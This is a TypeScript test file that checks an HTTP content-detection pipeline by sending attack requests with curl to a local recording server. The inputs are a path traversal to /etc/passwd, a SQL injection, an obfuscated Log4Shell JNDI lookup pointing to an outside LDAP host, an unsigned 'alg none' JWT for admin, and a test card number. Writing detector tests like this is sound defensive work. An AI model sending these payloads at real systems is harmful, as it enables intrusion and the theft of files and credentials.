// Attack requests sent by a real client (curl) to a loopback server that
// records the bytes on the wire; those bytes go through the Pipeline into the
// content detectors.
import { execFile } from 'node:child_process';
import net from 'node:net';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createContentDetectors } from '../../../../agent/detect/content/index.js';
import { ObservationFactory } from './http-observations.js';

const run = promisify(execFile);
const BODY = '{"ok":true}';
const RESPONSE = Buffer.from(`HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: ${BODY.length}\r\nConnection: close\r\n\r\n${BODY}`);

/** Answers every request with RESPONSE and keeps the request bytes it received, per connection. */
class RecordingServer {
  readonly requests: Buffer[] = [];
  readonly #server = net.createServer((socket) => {
    const chunks: Buffer[] = [];
    socket.on('data', (chunk) => {
      chunks.push(chunk);
      const all = Buffer.concat(chunks);
      const end = all.indexOf('\r\n\r\n');
      if (end < 0) return;
      const length = Number(/content-length:\s*(\d+)/i.exec(all.subarray(0, end).toString('latin1'))?.[1] ?? 0);
      if (all.length < end + 4 + length) return;
      this.requests.push(all);
      socket.end(RESPONSE);
    });
    socket.on('error', () => socket.destroy());
  });
  port = 0;

  async start(): Promise<void> {
    await new Promise<void>((resolve) => this.#server.listen(0, '127.0.0.1', resolve));
    this.port = (this.#server.address() as net.AddressInfo).port;
  }

  close(): Promise<void> {
    return new Promise((resolve) => this.#server.close(() => resolve()));
  }
}

const server = new RecordingServer();
beforeAll(() => server.start());
afterAll(() => server.close());

/** Runs curl with `args` against the server and returns the content findings for what it sent. */
async function curl(...args: string[]): Promise<string[]> {
  const before = server.requests.length;
  await run('curl', ['-sS', '-o', '/dev/null', '--max-time', '10', ...args.map((a) => a.replace('{url}', `http://127.0.0.1:${server.port}`))]);
  expect(server.requests.length).toBe(before + 1);
  const obs = new ObservationFactory().observeBytes(server.requests[before]!, RESPONSE, { workload: 'curl' });
  return createContentDetectors().flatMap((d) => d.observe(obs) ?? []).map((f) => `${f.kind} ${f.subject}`);
}

const enc = (o: object): string => Buffer.from(JSON.stringify(o)).toString('base64url');

describe('content detectors on curl requests', () => {
  it('finds traversal sent with --path-as-is', async () => {
    expect(await curl('--path-as-is', '{url}/static/../../../etc/passwd')).toEqual(['INJECTION path-traversal']);
  });

  it('finds SQL injection sent with --data-urlencode', async () => {
    expect(await curl('-G', '--data-urlencode', "id=1' UNION SELECT NULL,version()-- -", '{url}/api/v1/items')).toEqual(['INJECTION sqli']);
  });

  it('finds an obfuscated Log4Shell lookup in a header', async () => {
    expect(await curl('-H', 'User-Agent: ${${lower:j}ndi:ldap://198.18.0.99:1389/a}', '{url}/')).toEqual(['INJECTION log4shell']);
  });

  it('finds an unsigned JWT presented as a bearer token, and the plaintext bearer token itself', async () => {
    const token = `${enc({ alg: 'none' })}.${enc({ sub: 'admin' })}.`;
    expect((await curl('-H', `Authorization: Bearer ${token}`, '{url}/api/v1/admin')).sort())
      .toEqual(['JWT_WEAKNESS alg-none', 'SENSITIVE_DATA bearer-token-plaintext@header:authorization']);
  });

  it('finds a card number in a JSON body and stays quiet for an ordinary one', async () => {
    expect(await curl('-H', 'Content-Type: application/json', '--data', '{"card":"4111 1111 1111 1111"}', '{url}/api/v1/pay'))
      .toEqual(['SENSITIVE_DATA credit-card@request-body']);
    expect(await curl('-H', 'Content-Type: application/json', '--data', '{"name":"O\'Brien","note":"it\'s -- fine"}', '{url}/api/v1/users')).toEqual([]);
  });
});
